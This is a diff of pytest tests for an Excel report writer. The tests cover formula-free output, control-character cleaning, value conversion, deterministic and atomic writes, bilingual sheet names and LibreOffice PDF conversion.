+def test_no_formulas_anywhere(wb_en, wb_lv, books):
+    for wb in (wb_en, wb_lv):
+        for ws in wb.worksheets:
+            for row in ws.iter_rows():
+                for c in row:
+                    assert c.data_type != "f", (ws.title, c.coordinate, c.value)
+    with zipfile.ZipFile(books["en"]) as z:
+        for name in z.namelist():
+            if name.startswith("xl/worksheets/sheet"):
+                assert "<f>" not in z.read(name).decode()
+
+
+def test_illegal_control_characters_are_replaced(tmp_path):
+    t = seed_tables()
+    docs = t.documents.copy()
+    docs.loc[0, "message"] = "bad\x0bchar\x1f"
+    wb = openpyxl.load_workbook(excel.write_workbook(Tables(docs, *[t[n] for n in Tables.EXTRACTED[1:]]),
+                                                     tmp_path / "ctl.xlsx"))
+    assert "bad\ufffdchar\ufffd" in column_values(wb["Documents"], "Message")
+
+
+@pytest.mark.parametrize("value,expected", [
+    (pd.NA, None), (float("nan"), None), (float("inf"), None), (pd.NaT, None), (None, None),
+    (85.0, 85.0), (3, 3), (True, True), ("=1+1", "=1+1"), ("x" * 40000, "x" * 32766 + "…"),
+    (pd.Timestamp("2020-07-01"), dt.datetime(2020, 7, 1)),
+])
+def test_excel_value(value, expected):
+    assert excel.excel_value(value) == expected
+
+
+def test_percent_divisor():
+    assert excel.excel_value(85.0, 100.0) == 0.85
+    assert excel.excel_value(3.75, 100.0) == 0.0375
+
+
+# --------------------------------------------------------------------------------------------
+# Determinism and atomic write
+
+
+def test_byte_identical_second_write(tables, books, tmp_path):
+    again = excel.write_workbook(tables, tmp_path / "again.xlsx")
+    assert again.read_bytes() == books["en"].read_bytes()
+    lv_again = excel.write_workbook(tables, tmp_path / "again_lv.xlsx", lang="lv")
+    assert lv_again.read_bytes() == books["lv"].read_bytes()
+
+
+def test_fixed_timestamps(books):
+    wb = openpyxl.load_workbook(books["en"])
+    assert wb.properties.created == dt.datetime(2020, 12, 8) == wb.properties.modified  # latest publication
+    assert wb.properties.lastModifiedBy == "socreport"
+    with zipfile.ZipFile(books["en"]) as z:
+        infos = z.infolist()
+    assert {i.date_time for i in infos} == {excel.ZIP_TIME}
+    assert [i.filename for i in infos] == sorted(i.filename for i in infos)
+    assert infos[0].filename == "[Content_Types].xml"
+
+
+def test_failed_write_leaves_no_file_and_no_temp(tables, tmp_path, monkeypatch):
+    def boom(src, dst):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(excel.os, "replace", boom)
+    with pytest.raises(OSError, match="disk full"):
+        excel.write_workbook(tables, tmp_path / "r.xlsx")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_failed_write_keeps_the_previous_report(tables, tmp_path, monkeypatch):
+    target = tmp_path / "r.xlsx"
+    target.write_bytes(b"previous report")
+
+    real_fdopen = os.fdopen
+
+    class HalfFile:  # fails half-way through writing the temporary file
+        def __init__(self, fh):
+            self.fh = fh
+
+        def __enter__(self):
+            return self
+
+        def __exit__(self, *exc):
+            self.fh.close()
+            return False
+
+        def write(self, data):
+            self.fh.write(data[: len(data) // 2])
+            raise OSError("write failed")
+
+    monkeypatch.setattr(excel.os, "fdopen", lambda fd, mode: HalfFile(real_fdopen(fd, mode)))
+    with pytest.raises(OSError, match="write failed"):
+        excel.write_workbook(tables, target)
+    assert target.read_bytes() == b"previous report"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.xlsx"]
+
+
+def test_failure_while_building_writes_nothing(tables, tmp_path, monkeypatch):
+    monkeypatch.setattr(excel, "write_about", lambda *a, **k: (_ for _ in ()).throw(RuntimeError("bug")))
+    with pytest.raises(RuntimeError):
+        excel.write_workbook(tables, tmp_path / "x" / "r.xlsx")
+    assert not (tmp_path / "x" / "r.xlsx").exists()
+
+
+def test_unknown_language(tables, tmp_path):
+    with pytest.raises(ValueError, match="lang"):
+        excel.write_workbook(tables, tmp_path / "r.xlsx", lang="de")
+
+
+def test_texts_have_both_languages():
+    table = excel._text_table()
+    for key, by_lang in table.items():
+        for lang in excel.LANGS:
+            assert by_lang[lang].strip(), (key, lang)
+    for key, _ in excel.SHEET_ORDER:
+        for lang in excel.LANGS:
+            name = excel.text(f"sheet.{key}", lang)
+            assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
+
+
+# --------------------------------------------------------------------------------------------
+# LibreOffice
+
+
+def _soffice() -> str | None:
+    found = shutil.which("soffice") or shutil.which("libreoffice")
+    if not found and os.environ.get("SOCREPORT_REQUIRE_LIBREOFFICE") == "1":
+        pytest.fail("SOCREPORT_REQUIRE_LIBREOFFICE=1 but soffice is not installed")
+    return found
+
+
+def convert_to_pdf(soffice: str, xlsx: Path, outdir: Path) -> Path:
+    profile = outdir / "lo-profile"
+    subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
+                    "--convert-to", "pdf", "--outdir", str(outdir), str(xlsx)],
+                   check=True, capture_output=True, timeout=120)
+    return outdir / (xlsx.stem + ".pdf")
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("lang", excel.LANGS)
+def test_libreoffice_converts_the_workbook(lang, books, tmp_path):
+    soffice = _soffice()
+    if soffice is None:
+        pytest.skip("LibreOffice (soffice) is not installed")
+    pdf = convert_to_pdf(soffice, books[lang], tmp_path)
+    assert pdf.exists() and pdf.stat().st_size > 1000
+    assert pdf.read_bytes().startswith(b"%PDF")
+
+
+@pytest.mark.slow
+def test_end_to_end_on_the_seeds(raw_dir, tmp_path):
+    t = socreport.extract(raw_dir)
+    if not len(t.projects):
+        pytest.skip("extraction gives no projects yet: " + "; ".join(t.documents["message"].dropna().unique()))
+    t = socreport.checks.add_quality(socreport.indicators.add_indicators(t))
+    path = excel.write_workbook(t, tmp_path / "seeds.xlsx")
+    again = excel.write_workbook(t, tmp_path / "seeds2.xlsx")
+    assert path.read_bytes() == again.read_bytes()
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == SHEETS["en"]
+    assert wb["Projects"].max_row == len(t.projects) + 1
+    ids = column_values(wb["Projects"], "Project")
+    assert "LLI-491" in ids
+    r = ids.index("LLI-491")
+    total = column_values(wb["Projects"], schemas.label("projects", "total_budget_eur"))[r]
+    assert total == pytest.approx(661092.24)
+    soffice = shutil.which("soffice")
+    if soffice:
+        assert convert_to_pdf(soffice, path, tmp_path).stat().st_size > 1000
